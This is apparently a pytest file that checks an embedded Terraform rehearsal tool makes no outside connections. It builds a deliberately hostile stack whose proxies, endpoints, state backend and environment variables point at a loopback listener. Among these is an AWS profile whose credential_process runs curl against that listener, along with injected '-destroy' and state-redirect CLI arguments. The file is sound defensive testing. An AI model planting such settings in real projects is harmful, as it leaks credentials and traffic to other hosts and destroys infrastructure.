"""The embedded target reaches nobody: a listener on loopback sees nothing of hostile stacks."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

pytestmark = pytest.mark.embedded


class Listener:
    """Takes connections and counts them."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.socket.getsockname()[1]
        self.seen: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.seen.append(connection.recv(200))
                except OSError as error:
                    self.seen.append(str(error).encode())

    def close(self) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self._thread.join()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


ARGUMENTS = {
    "https_proxy": 'https_proxy = "URL"',
    "http_proxy": 'http_proxy = "URL"',
    "no_proxy": 'no_proxy = "amazonaws.com"',
    "both_proxies": 'http_proxy = "URL"\n  no_proxy = "*"',
    "endpoints": 'endpoints {\n    sts = "URL"\n  }',
    "two_endpoints": 'endpoints {\n    iam = "URL"\n  }\n  endpoints {\n    sts = "URL"\n  }',
    "dynamic": (
        'dynamic "endpoints" {\n    for_each = ["URL"]\n    content {\n      sts = endpoints.value\n'
        "    }\n  }"
    ),
    "variable": "https_proxy = var.proxy",
    "from_tfvars": "https_proxy = var.from_tfvars",
    "from_auto": "endpoints {\n    sts = var.from_auto\n  }",
    "from_environment": "https_proxy = local.from_environment",
    "profile": 'profile = "hostile"\n  shared_config_files = ["./config"]',
    "credentials": ('profile = "hostile"\n  shared_credentials_files = ["${path.module}/config"]'),
    "metadata": 'ec2_metadata_service_endpoint = "URL"\n  skip_metadata_api_check = false',
    "ca": 'custom_ca_bundle = "./config"\n  insecure = true\n  https_proxy = "URL"',
    "keys": 'access_key = "AKIAREAL"\n  secret_key = "x"\n  token = "y"\n  https_proxy = "URL"',
    "fips": 'use_fips_endpoint = true\n  sts_region = "us-west-2"\n  no_proxy = "*"',
    "overridden": 'region = "us-east-1"',
    "accounts": 'allowed_account_ids = ["999999999999"]\n  https_proxy = "URL"',
}


def hostile(folder: Path, url: str) -> None:
    """A stack of which each provider configuration tries one way out."""
    text = [
        'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n'
        f'  }}\n  backend "http" {{\n    address = "{url}/state"\n  }}\n}}\n'
        f'variable "proxy" {{\n  default = "{url}"\n}}\nvariable "from_tfvars" {{}}\n'
        'variable "from_auto" {}\nvariable "from_environment" {}\n'
        "locals {\n  from_environment = var.from_environment\n}\n"
        'module "own" {\n  source = "./modules/own"\n}\n'
        'module "beside" {\n  source = "../beside"\n}\n'
        f'provider "aws" {{\n  region = "us-east-1"\n  https_proxy = "{url}"\n}}\n'
        'resource "aws_sqs_queue" "made" {\n  name = "made"\n}\n'
    ]
    for alias, lines in ARGUMENTS.items():
        region = "" if "region = " in lines else '  region = "us-east-1"\n'
        text.append(
            f'provider "aws" {{\n  alias = "{alias}"\n{region}  {lines.replace("URL", url)}\n}}\n'
            f'data "aws_caller_identity" "{alias}" {{\n  provider = aws.{alias}\n}}\n'
        )
    (folder / "modules" / "own").mkdir(parents=True)
    (folder.parent / "beside").mkdir()
    (folder / "main.tf").write_text("".join(text))
    (folder / "terraform.tfvars").write_text(f'from_tfvars = "{url}"\n')
    (folder / "zz.auto.tfvars.json").write_text(json.dumps({"from_auto": url}))
    (folder / "config").write_text(
        f"[profile hostile]\nregion = us-east-1\nendpoint_url = {url}\n"
        f"[hostile]\ncredential_process = curl {url}\n"
    )
    in_json = {
        "provider": {
            "aws": [
                {"alias": "json", "region": "us-east-1", "endpoints": [{"sts": url}]},
                {"alias": "json_proxy", "region": "us-east-1", "https_proxy": "${var.proxy}"},
            ]
        },
        "data": {
            "aws_caller_identity": {
                "json": {"provider": "aws.json"},
                "json_proxy": {"provider": "aws.json_proxy"},
            }
        },
    }
    (folder / "more.tf.json").write_text(json.dumps(in_json))
    (folder / "zzz_override.tf.json").write_text(
        json.dumps(
            {
                "provider": {"aws": [{"alias": "overridden", "https_proxy": url}]},
                "terraform": {"backend": {"http": {"address": f"{url}/override"}}},
            }
        )
    )
    (folder / "zzz_override.tf").write_text(
        f'provider "aws" {{\n  endpoints {{\n    sts = "{url}"\n  }}\n}}\n'
    )
    (folder / "ignored.tofu").write_text('provider "aws" {\n  alias = "tofu"\n}\n')
    (folder / "modules" / "own" / "main.tf").write_text(
        f'provider "aws" {{\n  region = "us-east-1"\n  https_proxy = "{url}"\n}}\n'
        f'provider "aws" {{\n  alias = "inner"\n  region = "us-east-1"\n'
        f'  endpoints {{\n    sts = "{url}"\n  }}\n}}\n'
        'data "aws_caller_identity" "own" {}\n'
        'data "aws_caller_identity" "inner" {\n  provider = aws.inner\n}\n'
    )
    (folder.parent / "beside" / "main.tf").write_text(
        f'provider "aws" {{\n  region = "us-east-1"\n  https_proxy = "{url}"\n}}\n'
        'data "aws_caller_identity" "beside" {}\n'
    )


def rehearse(project: Path, url: str, *options: str) -> subprocess.CompletedProcess[str]:
    (project / "revet.toml").write_text("[stacks.infra]\nterraform = 'infra'\nfail_on = 'none'\n")
    elsewhere = project / "elsewhere.tfstate"
    return subprocess.run(
        [sys.executable, "-m", "revet.cli", "rehearse", "infra", *options],
        capture_output=True,
        text=True,
        cwd=project,
        env={
            **os.environ,
            "NO_COLOR": "1",
            "TF_VAR_from_environment": url,
            "TF_WORKSPACE": "foreign",
            "TF_CLI_ARGS": "-lock=false",
            "TF_CLI_ARGS_apply": f"-state-out={elsewhere}",
            "TF_CLI_ARGS_plan": "-destroy",
            "TF_DATA_DIR": str(project / "data"),
            "TF_LOG_PATH": str(project / "log"),
            "AWS_ENDPOINT_URL": url,
            "AWS_ENDPOINT_URL_STS": url,
            "AWS_PROFILE": "hostile",
            "AWS_CONFIG_FILE": str(project / "infra" / "config"),
            "HTTPS_PROXY": "",
            "NO_PROXY": "*",
        },
        timeout=240,
        check=False,
    )


def test_a_hostile_stack_is_rehearsed_and_nobody_hears_of_it(
    tmp_path: Path, listener: Listener
) -> None:
    (tmp_path / "infra").mkdir()
    hostile(tmp_path / "infra", listener.url)
    ended = rehearse(tmp_path, listener.url)
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert listener.seen == []
    present = {path.name for path in tmp_path.iterdir()}
    assert present <= {"infra", "beside", "revet.toml", ".revet"}, "nothing was written elsewhere"
